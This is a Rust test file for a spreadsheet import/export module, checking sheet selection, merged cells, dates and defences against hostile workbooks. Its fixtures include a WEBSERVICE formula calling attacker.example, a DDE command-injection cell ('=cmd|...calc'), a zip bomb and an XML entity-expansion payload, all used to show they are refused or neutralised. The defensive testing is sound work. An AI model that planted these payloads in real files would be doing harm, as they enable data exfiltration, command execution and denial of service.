//! Workbooks as people and programs save them, hostile ones included, and the way out and back in.

use std::io::{Cursor, Write as _};

use jiff::Timestamp;
use lectern_domain::csv_import::{Table, check, guess};
use lectern_domain::workbook::{Cell, WorkbookError, is_workbook, read, write};
use proptest::prelude::*;
use rust_xlsxwriter::{Format, Formula, Workbook};
use zip::write::SimpleFileOptions;
use zip::{CompressionMethod, ZipArchive, ZipWriter};

fn saved(mut book: Workbook) -> Vec<u8> {
    book.save_to_buffer().expect("a workbook")
}

fn table(bytes: &[u8], sheet: Option<&str>) -> Table {
    assert!(is_workbook(bytes), "it is known by its first bytes, whatever it is called");
    read(bytes, sheet).expect("a readable workbook")
}

fn people(rows: &[[&str; 3]]) -> Vec<u8> {
    let mut book = Workbook::new();
    let sheet = book.add_worksheet();
    for (row, cells) in (0..).zip(rows) {
        for (column, cell) in (0..).zip(cells) {
            sheet.write_string(row, column, *cell).expect("written");
        }
    }
    saved(book)
}

/// The same workbook with one part replaced or added.
fn with_part(bytes: &[u8], name: &str, content: &[u8]) -> Vec<u8> {
    let mut old = ZipArchive::new(Cursor::new(bytes)).expect("a zip");
    let mut new = ZipWriter::new(Cursor::new(Vec::new()));
    let deflated = SimpleFileOptions::default().compression_method(CompressionMethod::Deflated);
    for place in 0..old.len() {
        let part = old.by_index_raw(place).expect("a part");
        if part.name().expect("a name") != name {
            new.raw_copy_file(part).expect("copied");
        }
    }
    new.start_file(name, deflated).expect("a part");
    new.write_all(content).expect("written");
    new.finish().expect("a zip").into_inner()
}

fn sheet_xml(inside: &str) -> Vec<u8> {
    format!(
        "<?xml version=\"1.0\"?><worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\">\
         {inside}</worksheet>"
    )
    .into_bytes()
}

#[test]
fn the_sheet_with_people_is_found_or_chosen() {
    let mut book = Workbook::new();
    book.add_worksheet().set_name("Notes").expect("a name").write_string(0, 0, "Read me").expect("written");
    let list = book.add_worksheet().set_name("Gäste").expect("a name");
    for (column, header) in (0..).zip(["Vorname", "Nachname", "E-Mail", "Angemeldet am"]) {
        list.write_string(0, column, header).expect("written");
    }
    list.write_string(3, 0, "Zoë").expect("written");
    list.write_string(3, 1, "Weiß").expect("written");
    list.write_string(3, 2, "zoe@example.org").expect("written");
    let date = Format::new().set_num_format("dd.mm.yyyy");
    list.write_number_with_format(3, 3, 46_357.0, &date).expect("written");
    book.add_worksheet().set_name("Secret").expect("a name").set_hidden(true);
    let bytes = saved(book);
    let found = table(&bytes, None);
    let sheets = found.sheets.clone().expect("a workbook has sheets");
    assert_eq!(
        (sheets.chosen.as_str(), sheets.all.as_slice()),
        ("Gäste", &["Notes".into(), "Gäste".into()][..])
    );
    let checked = check(&found, &guess(&found));
    assert_eq!(
        (checked.valid[0].line, checked.valid[0].name.as_str()),
        (4, "Zoë Weiß"),
        "the row as it is numbered"
    );
    assert_eq!(found.rows[0].cells[3], "2026-12-01", "a date is no number of days");
    assert_eq!(table(&bytes, Some("Notes")).headers, ["Read me"]);
    assert_eq!(read(&bytes, Some("None")), Err(WorkbookError::NoSheet("None".into())));
}

#[test]
fn a_merged_company_is_everybodys_and_a_merged_title_is_a_title() {
    let mut book = Workbook::new();
    let sheet = book.add_worksheet();
    let plain = Format::new();
    sheet.merge_range(0, 0, 0, 2, "Autumn guests", &plain).expect("merged");
    for (column, header) in (0..).zip(["Company", "Name", "Email"]) {
        sheet.write_string(2, column, header).expect("written");
    }
    sheet.merge_range(3, 0, 4, 0, "Fabrikam", &plain).expect("merged");
    for (row, name) in [(3, "Ana"), (4, "Bo")] {
        sheet.write_string(row, 1, name).expect("written");
        sheet.write_string(row, 2, format!("{name}@example.org")).expect("written");
    }
    let found = table(&saved(book), None);
    assert_eq!(found.headers, ["Company", "Name", "Email"], "a title above the list is no header");
    let checked = check(&found, &guess(&found));
    let companies: Vec<Option<&str>> = checked.valid.iter().map(|row| row.company.as_deref()).collect();
    assert_eq!(companies, [Some("Fabrikam"), Some("Fabrikam")]);
}

#[test]
fn formulas_are_read_as_what_they_were_and_never_worked_out() {
    let mut book = Workbook::new();
    let sheet = book.add_worksheet();
    sheet.write_string(0, 0, "Name").expect("written");
    sheet.write_string(0, 1, "Email").expect("written");
    let joined = Formula::new("=CONCATENATE(\"A\",\"na\")").set_result("Ana");
    sheet.write_formula(1, 0, joined).expect("written");
    sheet.write_string(1, 1, "ana@example.org").expect("written");
    let bytes = saved(book);
    let found = table(&bytes, None);
    assert_eq!(found.rows[0].cells[0], "Ana");
    // As a program saves it that has never worked it out: with no value.
    let outside = sheet_xml(
        "<sheetData><row r=\"1\"><c r=\"A1\" t=\"str\"><v>Name</v></c><c r=\"B1\" t=\"str\"><v>Email</v></c></row>\
         <row r=\"2\"><c r=\"A2\" t=\"str\"><v>Ana</v></c><c r=\"B2\" t=\"str\"><v>ana@example.org</v></c></row>\
         <row r=\"3\"><c r=\"A3\"><f>WEBSERVICE(\"https://attacker.example\")</f></c>\
         <c r=\"B3\" t=\"str\"><v>bo@example.org</v></c></row></sheetData>",
    );
    let found = table(&with_part(&bytes, "xl/worksheets/sheet1.xml", &outside), None);
    let checked = check(&found, &guess(&found));
    assert_eq!(
        (checked.valid.len(), checked.errors[0].code),
        (1, "nameMissing"),
        "nothing was asked of anybody"
    );
}

#[test]
fn what_cannot_be_read_is_told_with_what_to_do() {
    let compound = b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1".to_vec();
    let named = |name: &str| {
        [compound.clone(), vec![0; 600], name.encode_utf16().flat_map(u16::to_le_bytes).collect()].concat()
    };
    assert_eq!(read(&named("EncryptedPackage"), None), Err(WorkbookError::Password));
    assert_eq!(read(&named("Workbook"), None), Err(WorkbookError::Old));
    let good = people(&[["Name", "Email", "Company"]]);
    assert_eq!(read(&with_part(&good, "xl/workbook.bin", b"x"), None), Err(WorkbookError::Binary));
    assert_eq!(read(&with_part(&good, "content.xml", b"x"), None), Err(WorkbookError::OpenDocument));
    assert!(matches!(read(&good[..good.len() / 2], None), Err(WorkbookError::Damaged(_))));
    assert!(
        matches!(read(&saved(Workbook::new()), None), Err(WorkbookError::Empty(_))),
        "its one sheet is named"
    );
    for error in
        [WorkbookError::Password, WorkbookError::Old, WorkbookError::Binary, WorkbookError::OpenDocument]
    {
        assert!(error.to_string().contains("save it"), "{error}: says what to do");
    }
}

#[test]
fn a_bomb_is_not_unpacked_and_a_vast_sheet_costs_what_is_in_it() {
    let good = people(&[["Name", "Email", "Company"], ["Ana", "ana@example.org", ""]]);
    // 600 MiB of blanks in half a megabyte.
    let bomb = with_part(&good, "xl/media/bomb.xml", &vec![b' '; 600 * 1024 * 1024]);
    assert!(bomb.len() < 2 * 1024 * 1024, "it is small to send");
    assert!(matches!(read(&bomb, None), Err(WorkbookError::TooLarge(_))));

    let part = "xl/worksheets/sheet1.xml";
    let far = sheet_xml(
        "<dimension ref=\"A1:XFD1048576\"/><sheetData>\
         <row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>Name</t></is></c>\
         <c r=\"B1\" t=\"inlineStr\"><is><t>Email</t></is></c></row>\
         <row r=\"1048576\"><c r=\"A1048576\" t=\"inlineStr\"><is><t>Ana</t></is></c>\
         <c r=\"B1048576\" t=\"inlineStr\"><is><t>ana@example.org</t></is></c></row></sheetData>",
    );
    let found = table(&with_part(&good, part, &far), None);
    assert_eq!((found.rows.len(), found.rows[0].line), (1, 1_048_576), "a million empty rows are none");
    let wide = sheet_xml("<sheetData><row r=\"1\"><c r=\"XFD1\"><v>1</v></c></row></sheetData>");
    assert!(matches!(
        read(&with_part(&good, part, &wide), None),
        Err(WorkbookError::TooWide { column: 16_384, .. })
    ));
    let entities = b"<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;\">]>\
        <worksheet><sheetData><row r=\"1\"><c r=\"A1\" t=\"str\"><v>&b;</v></c></row></sheetData></worksheet>";
    // Refused or left as it stands: it only must not grow.
    if let Ok(table) = read(&with_part(&good, part, entities), None) {
        assert!(table.headers.iter().all(|header| header.len() < 100), "{:?}", table.headers);
    }
}

#[test]
fn a_hundred_thousand_rows() {
    let rows = (0..100_000).map(|n| {
        ["Zoë", &format!("p{n}@example.org"), "Fabrikam"].map(|text| Cell::Text(text.to_owned())).into()
    });
    let bytes = write(&["Name", "Email", "Company"], rows, Timestamp::UNIX_EPOCH).expect("written");
    let found = table(&bytes, None);
    assert_eq!(check(&found, &guess(&found)).valid.len(), 100_000);
}

#[test]
fn no_formula_leaves() {
    let hostile = "=cmd|' /C calc'!A0";
    let rows = std::iter::once(vec![
        Cell::Text(hostile.to_owned()),
        Cell::Moment("2026-12-01T14:30:00Z".parse().expect("an instant")),
    ]);
    let bytes = write(&["Name", "Registered (UTC)"], rows, Timestamp::UNIX_EPOCH).expect("written");
    let mut archive = ZipArchive::new(Cursor::new(&bytes)).expect("a zip");
    let names: Vec<String> = archive.file_names().flatten().map(std::borrow::Cow::into_owned).collect();
    assert!(!names.iter().any(|name| name.contains("externalLink")), "{names:?}");
    let mut sheet = String::new();
    std::io::Read::read_to_string(
        &mut archive.by_name("xl/worksheets/sheet1.xml").expect("a sheet"),
        &mut sheet,
    )
    .expect("text");
    assert!(!sheet.contains("<f"), "a cell that a program would run: {sheet}");
    let back = table(&bytes, None);
    assert_eq!(back.rows[0].cells, [hostile, "2026-12-01 14:30"]);
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 64, ..ProptestConfig::default() })]

    #[test]
    fn what_we_write_we_read_unchanged(rows in proptest::collection::vec(proptest::collection::vec("[ -~äöüß=+@'\"\u{4e00}-\u{4eff}]{0,12}", 3), 1..12)) {
        // Rows of blanks alone are no rows, and blanks alone no cell.
        let rows: Vec<Vec<String>> = rows
            .into_iter()
            .map(|row| row.into_iter().map(|cell| format!("x{cell}")).collect())
            .collect();
        let cells = rows.clone().into_iter().map(|row| row.into_iter().map(Cell::Text).collect());
        let bytes = write(&["Name", "E-Mail", "Firma"], cells, Timestamp::UNIX_EPOCH).expect("written");
        let back = table(&bytes, None);
        prop_assert_eq!(&back.headers, &["Name", "E-Mail", "Firma"]);
        prop_assert_eq!(back.rows.into_iter().map(|row| row.cells).collect::<Vec<_>>(), rows);
    }

    #[test]
    fn no_bytes_make_it_panic(at in any::<prop::sample::Index>(), with in any::<u8>(), cut in any::<prop::sample::Index>(), noise in proptest::collection::vec(any::<u8>(), 0..200)) {
        let good = people(&[["Name", "Email", "Company"], ["Ana", "ana@example.org", "Fabrikam"]]);
        let mut changed = good.clone();
        let place = at.index(changed.len());
        changed[place] = with;
        let _ = read(&changed, None);
        let _ = read(&good[..cut.index(good.len())], None);
        let _ = read(&noise, None);
        let part = sheet_xml(&format!(
            "<sheetData><row r=\"{with}\"><c r=\"A{place}\" t=\"s\"><v>{with}</v></c></row></sheetData>"
        ));
        let _ = read(&with_part(&good, "xl/worksheets/sheet1.xml", &part), None);
    }
}
